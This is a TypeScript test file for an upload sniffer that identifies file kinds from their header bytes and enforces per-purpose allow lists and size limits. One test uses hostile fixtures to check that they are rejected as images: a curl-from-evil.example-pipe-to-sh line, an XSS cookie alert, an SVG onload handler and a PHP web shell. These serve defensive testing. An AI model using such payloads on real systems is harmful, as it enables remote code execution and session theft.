/**
 * detectFileKind on real file headers (as cameras, phones, encoders and Office write them) and
 * isAllowedUpload's per-purpose kinds and limits: the bytes decide, never the name or the type
 * the browser claimed.
 */
import { deflateRawSync } from 'node:zlib';
import {
  ATTACHMENT_MAX_BYTES,
  detectFileKind,
  FILE_KIND_MIME,
  FILE_KIND_SNIFF_BYTES,
  IMAGE_MAX_BYTES,
  isAllowedUpload,
  isAllowedUploadSize,
  UPLOAD_MAX_BYTES,
  VIDEO_MAX_BYTES,
  type FileKind,
  type UploadPurpose,
} from './file-content';

const hex = (h: string) => Buffer.from(h.replace(/\s+/g, ''), 'hex');
const text = (s: string) => Buffer.from(s, 'latin1');

// A complete, valid 1x1 red RGBA PNG (chunk CRCs and zlib data check).
const PNG = hex(`89504e470d0a1a0a 0000000d49484452 00000001000000010806000000 1f15c489
  0000000d49444154789c63f8cfc0f01f00050001ff 89993d1d 0000000049454e44ae426082`);
// JFIF (most cameras) and Exif (phones) JPEG starts.
const JPEG_JFIF = hex('ffd8ffe000104a46494600010100000100010000ffdb004300');
const JPEG_EXIF = hex('ffd8ffe1bcde45786966000049492a00080000000b000f01');
const GIF89 = Buffer.concat([text('GIF89a'), hex('010001008000000000ffffff21f90401000000002c')]);
const GIF87 = Buffer.concat([text('GIF87a'), hex('0100010080000000000000002c00000000')]);
const WEBP = Buffer.concat([
  text('RIFF'),
  hex('24000000'),
  text('WEBPVP8 '),
  hex('18000000300100'),
]);
// iPhone: major brand heic; Samsung: major brand mif1.
const HEIC = Buffer.concat([hex('00000018'), text('ftypheic'), hex('00000000'), text('mif1heic')]);
const HEIF_MIF1 = Buffer.concat([
  hex('0000001c'),
  text('ftypmif1'),
  hex('00000000'),
  text('mif1heicmiaf'),
]);
const HEIX = Buffer.concat([hex('00000018'), text('ftypheix'), hex('00000000'), text('mif1heix')]);
const MP4 = Buffer.concat([
  hex('00000020'),
  text('ftypisom'),
  hex('00000200'),
  text('isomiso2avc1mp41'),
  hex('00000008'),
  text('free'),
]);
const MP4_MP42 = Buffer.concat([
  hex('0000001c'),
  text('ftypmp42'),
  hex('00000000'),
  text('mp42isom'),
]);
const M4V = Buffer.concat([
  hex('0000001c'),
  text('ftypM4V '),
  hex('00000001'),
  text('M4V M4A mp42'),
]);
const THREE_GP = Buffer.concat([
  hex('00000018'),
  text('ftyp3gp4'),
  hex('00000200'),
  text('isom3gp4'),
]);
// Android phones write an avc1-led ftyp sometimes.
const AVC1 = Buffer.concat([hex('00000018'), text('ftypavc1'), hex('00000000'), text('avc1isom')]);
const MOV = Buffer.concat([hex('00000014'), text('ftypqt  '), hex('20050300'), text('qt  ')]);
const MOV_OLD = Buffer.concat([hex('00000008'), text('wide'), hex('0012a3b4'), text('mdat')]);
// EBML header with DocType webm / matroska.
const WEBM = hex(
  '1a45dfa3 9f 4286 81 01 42f7 81 01 42f2 81 04 42f3 81 08 4282 84 7765626d 4287 81 04 4285 81 02',
);
const MKV = hex(
  '1a45dfa3 a3 4286 81 01 42f7 81 01 42f2 81 04 42f3 81 08 4282 88 6d6174726f736b61 4287 81 04 4285 81 02',
);
const AVI = Buffer.concat([
  text('RIFF'),
  hex('d8a40200'),
  text('AVI LIST'),
  hex('7e220000'),
  text('hdrlavih'),
]);
const WAV = Buffer.concat([text('RIFF'), hex('24080000'), text('WAVEfmt '), hex('10000000')]);
const PDF = Buffer.concat([
  text('%PDF-1.7\n%'),
  hex('e2e3cfd3'),
  text('\n1 0 obj\n<</Type/Catalog>>'),
]);
const DOC = Buffer.concat([hex('d0cf11e0a1b11ae1'), Buffer.alloc(16), hex('3e000300feff0900')]);

/** A zip (stored or deflated entries, local headers only: what the first bytes show). */
function zip(entries: Array<[string, string]>): Buffer {
  return Buffer.concat(
    entries.map(([name, content]) => {
      const data = deflateRawSync(Buffer.from(content));
      const header = Buffer.alloc(30);
      header.writeUInt32LE(0x04034b50, 0);
      header.writeUInt16LE(20, 4);
      header.writeUInt16LE(6, 6);
      header.writeUInt16LE(8, 8);
      header.writeUInt32LE(data.length, 18);
      header.writeUInt32LE(content.length, 22);
      header.writeUInt16LE(Buffer.byteLength(name), 26);
      return Buffer.concat([header, Buffer.from(name), data]);
    }),
  );
}
const contentTypes = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/"/>';
const DOCX = zip([
  ['[Content_Types].xml', contentTypes],
  ['_rels/.rels', '<Relationships/>'],
  ['word/document.xml', '<w:document/>'],
]);
const XLSX = zip([
  ['[Content_Types].xml', contentTypes],
  ['_rels/.rels', '<Relationships/>'],
  ['xl/workbook.xml', '<workbook/>'],
]);
const PLAIN_ZIP = zip([['payload.exe', 'MZ...']]);

describe('detectFileKind', () => {
  it.each<[string, Buffer, FileKind]>([
    ['PNG', PNG, 'png'],
    ['JPEG (JFIF)', JPEG_JFIF, 'jpeg'],
    ['JPEG (Exif)', JPEG_EXIF, 'jpeg'],
    ['GIF89a', GIF89, 'gif'],
    ['GIF87a', GIF87, 'gif'],
    ['WebP', WEBP, 'webp'],
    ['HEIC (iPhone)', HEIC, 'heic'],
    ['HEIF (mif1)', HEIF_MIF1, 'heic'],
    ['HEIC (heix)', HEIX, 'heic'],
    ['MP4 (isom)', MP4, 'mp4'],
    ['MP4 (mp42)', MP4_MP42, 'mp4'],
    ['M4V', M4V, 'mp4'],
    ['3GP', THREE_GP, 'mp4'],
    ['MP4 (avc1)', AVC1, 'mp4'],
    ['MOV (ftyp qt)', MOV, 'mov'],
    ['MOV (old, no ftyp)', MOV_OLD, 'mov'],
    ['WebM', WEBM, 'webm'],
    ['Matroska', MKV, 'mkv'],
    ['AVI', AVI, 'avi'],
    ['PDF', PDF, 'pdf'],
    ['DOC (OLE2)', DOC, 'doc'],
    ['DOCX', DOCX, 'docx'],
    ['text', Buffer.from('Hello doctor,\r\nmy dose is 0.25 mg — thank you ✓\n\tJane'), 'txt'],
  ])('%s', (_name, bytes, kind) => {
    expect(detectFileKind(bytes)).toBe(kind);
    // The kind does not depend on what follows the header.
    expect(detectFileKind(Buffer.concat([bytes, Buffer.alloc(8000, 0x41)]))).toBe(kind);
  });

  it.each<[string, Buffer]>([
    ['an empty file', Buffer.alloc(0)],
    ['a WAV (RIFF but neither WEBP nor AVI)', WAV],
    ['an xlsx (OOXML, not Word)', XLSX],
    ['a plain zip', PLAIN_ZIP],
    ['a Windows executable', hex('4d5a90000300000004000000ffff0000b800000000000000400000')],
    ['an ELF binary', hex('7f454c46020101000000000000000000')],
    ['binary with NULs', hex('0001020300ff7f80')],
    ['invalid UTF-8', hex('48656c6c6fc328')],
    ['Latin-1 text (not UTF-8)', text('caf\xe9 cr\xe8me')],
    [
      'an unknown ftyp brand',
      Buffer.concat([hex('00000014'), text('ftypzzzz'), hex('00000000'), text('zzzz')]),
    ],
    ['a lone JPEG byte', hex('ff')],
    ['a cut PNG signature', hex('89504e47')],
  ])('%s is unknown', (_name, bytes) => {
    expect(detectFileKind(bytes)).toBe('unknown');
  });

  it('goes by the bytes: a PNG named .mp4 (sent as video/mp4) is a png, not a video', () => {
    const renamed = { name: 'clip.mp4', type: 'video/mp4', bytes: PNG };
    const kind = detectFileKind(renamed.bytes);
    expect(kind).toBe('png');
    expect(isAllowedUpload(kind, 'video')).toBe(false);
    expect(isAllowedUpload(kind, 'image')).toBe(true);
  });

  it('a script or an SVG named .jpg is text, not an image', () => {
    for (const script of [
      '#!/bin/sh\ncurl http://evil.example | sh\n',
      '<script>alert(document.cookie)</script>',
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
      '<?php system($_GET["c"]); ?>',
    ]) {
      const kind = detectFileKind(Buffer.from(script));
      expect(kind).toBe('txt');
      expect(isAllowedUpload(kind, 'image')).toBe(false);
      expect(isAllowedUpload(kind, 'video')).toBe(false);
    }
  });

  it('accepts text whose given bytes end inside a UTF-8 character (a file read only in part)', () => {
    const long = Buffer.from('é'.repeat(FILE_KIND_SNIFF_BYTES));
    expect(detectFileKind(long.subarray(0, 63))).toBe('txt');
    expect(detectFileKind(long.subarray(0, 64))).toBe('txt');
    expect(detectFileKind(long.subarray(0, FILE_KIND_SNIFF_BYTES + 1))).toBe('txt');
    // ...but not a broken character in the middle.
    expect(detectFileKind(Buffer.concat([long.subarray(0, 63), Buffer.from('abc')]))).toBe(
      'unknown',
    );
  });

  it('decides every binary kind from the first 64 bytes', () => {
    for (const [bytes, kind] of [
      [PNG, 'png'],
      [HEIF_MIF1, 'heic'],
      [MP4, 'mp4'],
      [MKV, 'mkv'],
      [AVI, 'avi'],
      [DOCX, 'docx'],
      [DOC, 'doc'],
      [PDF, 'pdf'],
    ] as const) {
      const padded = Buffer.concat([bytes, Buffer.alloc(4096, 0)]);
      expect(detectFileKind(padded.subarray(0, 64))).toBe(kind);
    }
  });

  it('never throws on short or odd input', () => {
    for (let n = 0; n < 40; n++) {
      for (const base of [PNG, MP4, WEBM, DOCX, AVI, DOC]) {
        expect(() => detectFileKind(base.subarray(0, n))).not.toThrow();
      }
    }
  });

  it('has a Content-Type for every kind', () => {
    expect(FILE_KIND_MIME.heic).toBe('image/heic');
    expect(FILE_KIND_MIME.mov).toBe('video/quicktime');
    expect(FILE_KIND_MIME.unknown).toBe('application/octet-stream');
  });
});

describe('isAllowedUpload', () => {
  const all: FileKind[] = Object.keys(FILE_KIND_MIME) as FileKind[];
  const allowed = (purpose: UploadPurpose) => all.filter((k) => isAllowedUpload(k, purpose));

  it('takes only images for image questions and re-uploads', () => {
    expect(allowed('image')).toEqual(['jpeg', 'png', 'gif', 'webp', 'heic']);
  });

  it('takes the identity video formats (mp4, mov, avi, webm, and mkv)', () => {
    expect(allowed('video')).toEqual(['mp4', 'mov', 'webm', 'mkv', 'avi']);
  });

  it("takes the doctor chat's attachment types: pdf, doc, docx, txt, jpg, png, gif, mp4, avi, mov", () => {
    expect(allowed('attachment').sort()).toEqual(
      ['pdf', 'doc', 'docx', 'txt', 'jpeg', 'png', 'gif', 'mp4', 'avi', 'mov'].sort(),
    );
  });

  it('never allows unknown content', () => {
    for (const purpose of ['image', 'video', 'attachment'] as const)
      expect(isAllowedUpload('unknown', purpose)).toBe(false);
  });

  it('has the spec limits: images and attachments 5 MB, video 100 MB', () => {
    expect(IMAGE_MAX_BYTES).toBe(5242880);
    expect(ATTACHMENT_MAX_BYTES).toBe(5242880);
    expect(VIDEO_MAX_BYTES).toBe(100 * 1024 * 1024);
    expect(UPLOAD_MAX_BYTES).toEqual({ image: 5242880, video: 104857600, attachment: 5242880 });
    expect(isAllowedUploadSize(5242880, 'image')).toBe(true);
    expect(isAllowedUploadSize(5242881, 'image')).toBe(false);
    expect(isAllowedUploadSize(104857600, 'video')).toBe(true);
    expect(isAllowedUploadSize(104857601, 'video')).toBe(false);
    expect(isAllowedUploadSize(5242881, 'attachment')).toBe(false);
    expect(isAllowedUploadSize(0, 'attachment')).toBe(false);
  });
});
